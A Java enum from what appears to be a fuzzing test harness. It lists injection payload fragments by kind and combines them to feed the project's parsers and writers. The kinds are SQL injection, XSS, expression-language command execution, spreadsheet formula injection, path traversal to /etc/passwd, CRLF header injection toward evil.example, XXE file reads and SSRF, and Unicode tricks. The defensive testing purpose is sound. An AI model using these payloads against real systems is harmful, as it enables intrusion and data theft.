package org.resguardo.harness;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * What people type who want to harm, by kind; made of short lists, at least two hundred of each.
 * Every converter, parser and writer of the house is given all of them.
 */
public enum Payloads {
  SQL(
      List.of(
          List.of("", "1", "'", "\"", "')", "\\'", "%'", "`", "\uFF07"),
          List.of(
              " OR 1=1",
              " UNION SELECT NULL,NULL",
              "; DROP TABLE case_file",
              " AND SLEEP(5)",
              " || (SELECT @@version)",
              " INTO OUTFILE '/tmp/x'"),
          List.of("", " -- ", "#", "/*", ";\u0000"))),
  MARKUP(
      List.of(
          List.of("", "\">", "'/>", "</textarea>", "<!--", "]]>"),
          List.of(
              "<script>",
              "<img src=x onerror=",
              "<svg/onload=",
              "<a href=\"javascript:",
              "<iframe srcdoc='",
              "<math href=\"data:x,",
              "<ScRiPt\u0000>",
              "%3Cscript%3E"),
          List.of("alert(1)", "top[`al`+`ert`](1)", "&#97;lert(1)", "\\u0061lert(1)", "eval(name)"),
          List.of("", "//"))),
  EXPRESSION(
      List.of(
          List.of("#{", "${", "%{", "#{{", "*{", "{{", "<%=", "@{", "~{", "{0,"),
          List.of(
              "31337*31337",
              "T(java.lang.Runtime).getRuntime().exec('id')",
              "''.getClass().forName('java.lang.System')",
              "session.invalidate()",
              "facesContext.externalContext.request",
              "@java.lang.System@exit(1)",
              "jndi:ldap://x"),
          List.of("}", "}}", "%>"))),
  FORMULA(
      List.of(
          List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%", "=+-@", "\uFF1D"),
          List.of(
              "1+1",
              "cmd|'/C calc'!A0",
              "HYPERLINK(\"http://x\",\"y\")",
              "WEBSERVICE(\"http://x\")",
              "IMPORTXML(\"http://x\",\"//a\")",
              "DDE(\"x\";\"y\")",
              "SUM(A1:A9)"),
          List.of("", ";", "\n=2"))),
  PATH(
      List.of(
          List.of(
              "../",
              "..\\",
              "%2e%2e/",
              "%252e%252e%252f",
              "..%c0%af",
              "....//",
              "/",
              "file:///",
              "\\\\host\\share\\",
              "..;/"),
          List.of("", "../../", "../../../../../../../../"),
          List.of(
              "etc/passwd",
              "WEB-INF/web.xml",
              "windows/win.ini",
              "proc/self/environ",
              "keys/master.json",
              "con",
              "a\u0000.pdf"))),
  HEADER(
      List.of(
          List.of("", "x", "R26-000001-7", "hoy", "1"),
          List.of("\r\n", "\n", "\r", "%0d%0a", "\u560a\u560d", "\u2028", "\u0085", "\\r\\n"),
          List.of(
              "Set-Cookie: a=b",
              "Location: //evil.example",
              "\r\nHTTP/1.1 200 OK",
              "X-Forwarded-For: 1.2.3.4",
              "Bcc: x@evil.example",
              "END:VCALENDAR"))),
  XML(
      List.of(
          List.of(
              "", "<?xml version=\"1.0\"?>", "\uFEFF<?xml version=\"1.1\" encoding=\"UTF-7\"?>"),
          List.of(
              "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
              "<!DOCTYPE a [<!ENTITY b SYSTEM \"http://127.0.0.1/\">]>",
              "<!DOCTYPE a [<!ENTITY % b SYSTEM \"http://127.0.0.1/\"> %b;]>",
              "<!DOCTYPE a [<!ENTITY b \"zzzzzzzzzz\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
              "<!DOCTYPE a PUBLIC \"-//x\" \"http://127.0.0.1/\">"),
          List.of(
              "<a>&b;</a>",
              "<a>&c;</a>",
              "<a b=\"&b;\"/>",
              "<a><![CDATA[</a>]]></a>",
              "<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
              "<?xml-stylesheet href=\"http://127.0.0.1/\"?><a/>",
              "<w:p/>"),
          List.of("", "PK\u0003\u0004"))),
  UNICODE(
      List.of(
          List.of("", "R26-", "2026-", "a"),
          List.of(
              "\u202E",
              "\u202D\u2066",
              "\u2069",
              "\u200B",
              "\u200D",
              "\uFEFF",
              "\u0000",
              "\u0007",
              "\u001B[31m",
              "\uD800",
              "\uDC00",
              "\uFFFE",
              "\uFFFF",
              "e\u0301\u0301\u0301\u0301",
              "\u0130",
              "\u0131",
              "\u1E9E",
              "\uFF11\uFF12",
              "\u0662\u0660\u0662\u0666",
              "\uD83D\uDE00",
              "\u00AD",
              "\u2060",
              "\u3164",
              "\uDB40\uDC41",
              "\uFDFA",
              "\u00A0",
              "\u2003"),
          List.of("", "000001", "=1")));

  private final List<List<String>> parts;

  Payloads(List<List<String>> parts) {
    this.parts = parts;
  }

  /** Every way to put one of each list behind one another. */
  public List<String> all() {
    List<String> made = List.of("");
    for (List<String> part : parts) {
      List<String> longer = new ArrayList<>();
      for (String start : made) {
        part.forEach(end -> longer.add(start + end));
      }
      made = longer;
    }
    return made;
  }

  /** Of every kind. */
  public static Stream<String> every() {
    return Stream.of(values()).flatMap(kind -> kind.all().stream());
  }
}
